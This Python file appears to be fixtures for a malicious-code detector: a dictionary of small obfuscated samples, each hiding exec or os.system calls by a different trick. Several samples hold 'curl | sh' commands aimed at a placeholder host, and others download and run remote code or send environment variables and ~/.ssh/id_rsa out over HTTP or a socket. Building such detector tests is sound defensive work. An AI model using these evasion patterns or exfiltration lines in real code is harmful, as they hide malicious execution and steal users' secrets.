"""Malicious samples of our own writing, to be judged and never run: one way each to hide what one file does."""

# What is sent or run is nothing, and the hosts are reserved names; each is what a judge sees of the real thing.

SAMPLES: dict[str, str] = {
    "an attribute of the object": """\
import base64
class A:
    def __init__(self):
        self.go = exec
    def run(self):
        self.go(base64.b64decode('eA=='))
""",
    "an attribute of the class": """\
import base64
class A:
    go = exec
A.go(base64.b64decode('eA=='))
""",
    "out of a table": """\
import base64
d={'a':exec}
d['a'](base64.b64decode('eA=='))
""",
    "out of a table by get": """\
import base64
d={'a':exec}
d.get('a')(base64.b64decode('eA=='))
""",
    "out of a list": """\
import base64
[exec][0](base64.b64decode('eA=='))
""",
    "out of a choice": """\
import base64
(exec if 1 else print)(base64.b64decode('eA=='))
""",
    "a default of a parameter": """\
import base64
def f(x, g=exec):
    g(x)
f(base64.b64decode('eA=='))
""",
    "handed to map": """\
import base64
list(map(exec,[base64.b64decode('eA==')]))
""",
    "handed to a thread": """\
import base64,threading
threading.Thread(target=exec,args=(base64.b64decode('eA=='),)).start()
""",
    "a partial function": """\
import base64,functools
functools.partial(exec, base64.b64decode('eA=='))()
""",
    "a partial function under a name": """\
import base64,functools
p=functools.partial(exec)
p(base64.b64decode('eA=='))
""",
    "in a lambda": """\
import base64
f=lambda x: exec(x)
f(base64.b64decode('eA=='))
""",
    "handed to a lambda": """\
import base64
(lambda e: e(base64.b64decode('eA==')))(exec)
""",
    "as a decorator": """\
@exec
def x(): ...
""",
    "behind an index": """\
class A:
    __getitem__ = exec
A()['x']
""",
    "behind an index of a class": """\
class A:
    __class_getitem__ = exec
A['import os']
""",
    "out of vars": """\
import os
vars(os)['sys'+'tem']('ls')
""",
    "out of a module's dictionary": """\
import os
os.__dict__['sys'+'tem']('ls')
""",
    "out of globals": """\
import os
globals()['o'+'s'].system('ls')
""",
    "out of a function's globals": """\
def f(): ...
f.__globals__['__builtins__']['ex'+'ec']('x')
""",
    "by __getattribute__": """\
import os
os.__getattribute__('sys'+'tem')('ls')
""",
    "by the object's __getattribute__": """\
import os
object.__getattribute__(os,'sys'+'tem')('ls')
""",
    "by attrgetter": """\
import os,operator
operator.attrgetter('system')(os)('curl http://x.example | sh')
""",
    "a name in two variables": """\
import os
a='sys'
b='tem'
getattr(os,a+b)('ls')
""",
    "a name that grows": """\
import os
a='sys'
a+='tem'
getattr(os,a)('ls')
""",
    "a name that is overwritten later": """\
import os
a='system'
getattr(os,a)('ls')
a='path'
""",
    "a joined name": """\
import os
getattr(os,''.join(['s','ystem']))('ls')
""",
    "a formatted name": """\
import os
getattr(os,f"{'sys'}tem")('ls')
""",
    "a reversed name": """\
import os
getattr(os,''.join(reversed('metsys')))('ls')
""",
    "an encoded name": """\
import os,base64
getattr(os,base64.b64decode('c3lzdGVt').decode())('ls')
""",
    "a name in hex": """\
import os
getattr(os,bytes.fromhex('73797374656d').decode())('ls')
""",
    "a name of characters": """\
import os
getattr(os,chr(115)+'ystem')('ls')
""",
    "a name with letters replaced": """\
import os
getattr(os,'sXstem'.replace('X','y'))('ls')
""",
    "a module by importlib": """\
import importlib
importlib.import_module('sub'+'process').run(['ls'])
""",
    "a module by an alias of importlib": """\
from importlib import import_module as i
i('so'+'cket').socket()
""",
    "out of sys.modules": """\
import sys
sys.modules['o'+'s'].system('ls')
""",
    "out of sys.modules by get": """\
import sys
sys.modules.get('o'+'s').system('ls')
""",
    "code in text": """\
exec("import os; os.system('curl http://x.example | sh')")
""",
    "code in text that is evaluated": """\
eval("__import__('os').system('curl http://x.example | sh')")
""",
    "code in text that is put together": """\
exec('imp'+'ort os; os.system("ls")')
""",
    "code in text that is compiled": """\
c=compile("import os; os.system('curl http://x.example | sh')",'','exec')
exec(c)
""",
    "another interpreter": """\
import subprocess,sys
subprocess.run([sys.executable,'-c','import os; exec(__import__("base64").b64decode("eA=="))'])
""",
    "a command in pieces": """\
import os
os.system('cu'+'rl http://x | s'+'h')
""",
    "a command in a variable": """\
import os
c='curl http://x.example | sh'
os.system(c)
""",
    "a command as a list": """\
import subprocess
subprocess.run(['bash','-c','curl http://x.example | sh'])
""",
    "wide letters": """\
\uff45\uff58\uff45\uff43(__import__('base64').b64decode('eA=='))
""",
    "through a parameter": """\
import base64
def run(c):
    exec(c)
run(base64.b64decode('eA=='))
""",
    "through a method": """\
import base64
class A:
    def run(self, c):
        exec(c)
    def go(self):
        self.run(base64.b64decode('eA=='))
""",
    "handed to starmap": """\
import itertools,os
list(itertools.starmap(os.system,[('curl http://x.example | sh',)]))
""",
    "at exit": """\
import atexit,os
atexit.register(os.system,'curl http://x.example | sh')
""",
    "assigned on the way": """\
import base64
(e:=exec)(base64.b64decode('eA=='))
""",
    "unpacked": """\
import base64
a, b = exec, print
a(base64.b64decode('eA=='))
""",
    "by a loop": """\
import base64
for f in (exec,):
    f(base64.b64decode('eA=='))
""",
    "set as an attribute": """\
import base64
class A: ...
setattr(A,'go',exec)
A.go(base64.b64decode('eA=='))
""",
    "in a class made at run time": """\
import base64
A=type('A',(),{'go':exec})
A.go(base64.b64decode('eA=='))
""",
    "as another builtin": """\
import builtins,base64
builtins.print=exec
print(base64.b64decode('eA=='))
""",
    "as a hook": """\
import sys
sys.excepthook=exec
""",
    "through all subclasses": """\
k = ().__class__.__base__.__subclasses__()[100]
k.__init__.__globals__['sys'].modules['os'].system('curl http://x.example | sh')
""",
    "a decoded name": """\
import os,base64
n=base64.b64decode(open('x').read()).decode()
getattr(os,n)('ls')
""",
    "marshalled in a data file": """\
import marshal
exec(marshal.loads(open('x.dat','rb').read()))
""",
    "in a resource": """\
import importlib.resources as r
exec(r.read_text('p','x.txt'))
""",
    "in package data": """\
import pkgutil
exec(pkgutil.get_data('p','x.bin'))
""",
    "an asynchronous shell": """\
import asyncio
asyncio.create_subprocess_shell('curl http://x.example | sh')
""",
    "a function of byte code": """\
import types,marshal,base64
types.FunctionType(marshal.loads(base64.b64decode('eA==')),globals())()
""",
    "an interpreter of its own": """\
import code,base64
code.InteractiveInterpreter().runsource(base64.b64decode('eA==').decode())
""",
    "downloaded and run as a file": """\
import runpy,requests
open('/tmp/zz.py','wb').write(requests.get('http://x.example').content)
runpy.run_path('/tmp/zz.py')
""",
    "downloaded and imported": """\
import sys,requests,importlib
open('/tmp/zz.py','wb').write(requests.get('http://x.example').content)
sys.path.insert(0,'/tmp')
import zz
""",
    "through the C library": """\
import ctypes
ctypes.CDLL(None).system(b'curl http://x.example | sh')
""",
    "a name in other letters": """\
import os
\u043es = os
\u043es.system('ls')
""",
    "one of two clients": """\
try:
    import requests as r
except ImportError:
    import httpx as r
exec(r.get('http://x.example').text)
""",
    "in a class body": """\
import base64
class A:
    exec(base64.b64decode('eA=='))
""",
    "in a comprehension": """\
import base64
[exec(x) for x in [base64.b64decode('eA==')]]
""",
    "by a session": """\
import requests
s=requests.Session()
exec(s.get('http://x.example').text)
""",
    "by an asynchronous session": """\
import aiohttp
async def f():
    async with aiohttp.ClientSession() as s:
        async with s.get('http://x.example') as r:
            exec(await r.text())
""",
    "by an asynchronous client": """\
import httpx
async def f():
    async with httpx.AsyncClient() as c:
        r = await c.get('http://x.example')
        exec(r.text)
""",
    "a copy of the environment": """\
import os,requests
d=os.environ.copy()
requests.post('http://x.example',json=d)
""",
    "the environment item by item": """\
import os,requests
d={k:v for k,v in os.environ.items()}
requests.post('http://x.example',json=d)
""",
    "the environment by a socket": """\
import os,socket
s=socket.create_connection(('h',1))
s.sendall(str(dict(os.environ)).encode())
""",
    "a key by a socket": """\
import os,socket
s=socket.create_connection(('h',1))
s.send(open(os.path.expanduser('~/.ssh/id_rsa')).read().encode())
""",
}
